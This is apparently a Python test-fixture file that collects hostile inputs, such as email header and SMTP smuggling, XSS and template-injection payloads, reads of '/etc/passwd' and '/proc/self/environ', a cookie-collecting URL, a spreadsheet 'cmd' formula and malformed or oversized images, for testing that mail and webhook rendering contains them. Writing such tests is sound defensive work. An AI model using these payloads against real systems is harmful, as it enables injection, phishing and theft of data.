"""Texts and results that try to break out of their place in a mail, a webhook or a page.

All of it goes through every template and channel in tests/integration/test_hostile_mail.py and
test_hostile_webhooks.py; `reading.py` tells whether something got out.
"""

import json
import struct
import zlib
from base64 import b64encode
from typing import Any

BIDI = "\u202e\u2066\u200f\u061c\ufeff"
VICTIM = "victim@elsewhere.test"


def texts(url: str, path: str) -> dict[str, str]:
    """Return the texts by what they try. `url` is a server that nobody may ask, `path` a file that nobody may read."""
    return {
        "a header": f"hello\r\nBcc: {VICTIM}\r\nSubject: another\r\nContent-Type: text/html",
        "a header, by line feed": f"hello\nBcc: {VICTIM}",
        "a header, by carriage return": f"hello\rBcc: {VICTIM}",
        "a header, by other line ends": f"a\x0bBcc: {VICTIM}\x0cBcc: {VICTIM}\x1cb\x85Bcc: {VICTIM}\u2028c\u2029d",
        "a header, folded": f"hello\r\n Bcc: {VICTIM}\r\n\tBcc: {VICTIM}",
        "a header, in an encoded word": f"=?utf-8?q?hello=0D=0ABcc:_{VICTIM}=0D=0A=0D=0A<script>alert(1)</script>?=",
        "a header, in base64": f"=?utf-8?b?{b64encode(f'a{chr(13)}{chr(10)}Bcc: {VICTIM}'.encode()).decode()}?= b",
        "a body": f"\r\n\r\n<html><body><script src={url}s.js></script>",
        "a part": 'a\r\n--===============123==\r\nContent-Disposition: attachment; filename="x.exe"\r\n\r\nMZ',
        "a mail": f"a\r\n.\r\nMAIL FROM:<a@b.test>\r\nRCPT TO:<{VICTIM}>\r\nDATA\r\nsmuggled\r\n.\r\n",
        "a mail, by bare line ends": f"a\n.\nMAIL FROM:<a@b.test>\n\r.\rRCPT TO:<{VICTIM}>\r.\r\nDATA\n.\r\nx\r\n.\n",
        "dots": ".\n..\n.\r\n",
        "a mailbox": "From a@b.test Sat Nov 21 09:30:00 2026\nFrom here\n>From there",
        "script": f'<script>alert(1)</script><script src="{url}s.js"></script>',
        "an event": f"\"'><img src={url}x onerror=alert(1)><svg/onload=alert(1)><body onload=alert(1)>",
        "a style sheet": f'<link rel="stylesheet" href="{url}style.css"><style>@import url({url}a.css)</style>',
        "a frame": f'<iframe src="{url}"></iframe><object data="{url}"></object><embed src="{url}"><base href="{url}">',
        "a form": f'<form action="{url}"><input name=password><button>Log in</button></form><meta http-equiv=refresh>',
        "a link": f"javascript:alert(1) data:text/html,<script>alert(1)</script> [click]({url}) {url}",
        "an end of everything": "--></style></title></textarea></pre></div></main></body></html><h1>and now</h1>",
        "a picture of ours": '<img src="cid:1"> cid:1',
        "entities": "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp; &copy",
        "markup of a word processor": "<!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[x]]><?php x ?>",
        "a template": "{{ 7 * 7 }} {% include '/etc/passwd' %} {{ config }} {# x #} ${7*7} #{7*7} %(id)s {0}",
        "a file": "/etc/passwd",
        "a file that is there": path,
        "a file's address": f"file://{path}",
        "a file of this process": "/proc/self/environ",
        "a file of yagmail": "~/.yagmail",
        "an address": f"{url}collect?cookie=1",
        "a direction": f"abc{BIDI}cba exe.txt",
        "emoji": "💥👩‍👩‍👧‍👦🏳️‍🌈 grüße 漢字 עברית العربية",
        "many accents": "z" + "\u0300\u0301\u0302" * 300,
        "no characters": "\0\x01\x07\x08\x1b[31m\x7f\x9b31m\udfff\ud800\ufffe\U0010ffff",
        "every byte": "".join(map(chr, range(256))),
        "nothing to be seen": " \t\u00a0\u200b\u2060\n \r\n",
        "nothing": "",
        "a formula": '=HYPERLINK("http://127.0.0.1/","x")',
        "a command": "=cmd|' /C calc'!A0",
        "a formula, hidden": "\t\u00a0@SUM(A1:A9)",
        "a long word": "x" * 20_000,
        "a long line of letters": "ü" * 20_000,
        "many lines": "line\r\n" * 20_000,
        "much": "<&>" * 100_000,
        "a number": "9" * 5000,
        "JSON": '{"__type__": "datetime", "__proto__": {"x": 1}, "py/object": "os.system"}',
        "the end of a JSON script": "</script><!-- \u2028\u2029",
    }


def results(text: str) -> dict[str, Any]:
    """Return the results in which a text can stand, by their shape."""
    return {
        "text": text,
        "values": [text, "b", None],
        "rows": [{text: text, "b": 1}, {"b": text}],
        "object": {text: [text, {text: text}]},
        "picture": {"media_type": "image/png", "data": b64encode(png(2, 2)).decode(), "alt": text[:900]},
    }


def png(width: int, height: int) -> bytes:
    """Write a picture, of the smallest file: one grey for all of it, and no more rows than fit a few bytes."""

    def chunk(kind: bytes, held: bytes) -> bytes:
        return struct.pack(">I", len(held)) + kind + held + struct.pack(">I", zlib.crc32(kind + held))

    rows = zlib.compress((b"\0" + b"\x80" * width) * height if width * height < 10_000 else b"\0")
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pictures(url: str) -> dict[str, dict[str, str]]:
    """Give results that look like pictures and aren't, or are none to be shown, by what they try."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="{url}x"/></svg>'.encode()

    def picture(media_type: str, content: bytes | str, alt: str = "a picture") -> dict[str, str]:
        data = content if isinstance(content, str) else b64encode(content).decode()
        return {"media_type": media_type, "data": data, "alt": alt}

    return {
        "a page for a picture": picture("image/png", b"<html><script>alert(1)</script>"),
        "a program for a picture": picture("image/gif", b"MZ\x90\0"),
        "a picture with scripts": picture("image/svg+xml", svg),
        "scripts for a picture": picture("image/png", svg),
        "another picture than it says": picture("image/jpeg", png(2, 2)),
        "a header in its type": picture(f"image/png\r\nBcc: {VICTIM}", png(2, 2)),
        "a page by its type": picture("text/html", b"<script>alert(1)</script>"),
        "a file for its bytes": picture("image/png", "/etc/passwd"),
        "an address for its bytes": picture("image/png", f"{url}x.png"),
        "no base64": picture("image/png", "\x89PNG é"),
        "no bytes": picture("image/png", b""),
        "a picture as wide as a street": picture("image/png", png(2_000_000_000, 2_000_000_000)),
        "a picture for many screens": picture("image/gif", b"GIF89a\xff\xff\xff\xff\0\0\0;"),
        "many screens, as a photo": picture("image/jpeg", b"\xff\xd8\xff\xe0\0\x02\xff\xc0\0\x11\x08" + b"\xff" * 4),
        "many screens, losslessly": picture("image/webp", b"RIFF\0\0\0\0WEBPVP8L\0\0\0\0\x2f" + b"\xff" * 4),
        "many screens, and more": picture("image/webp", b"RIFF\0\0\0\0WEBPVP8X\0\0\0\0" + b"\0" * 4 + b"\xff" * 6),
    }


def as_json(value: object) -> str:
    """Write a result as a worker commits it."""
    return json.dumps(value, separators=(",", ":"))
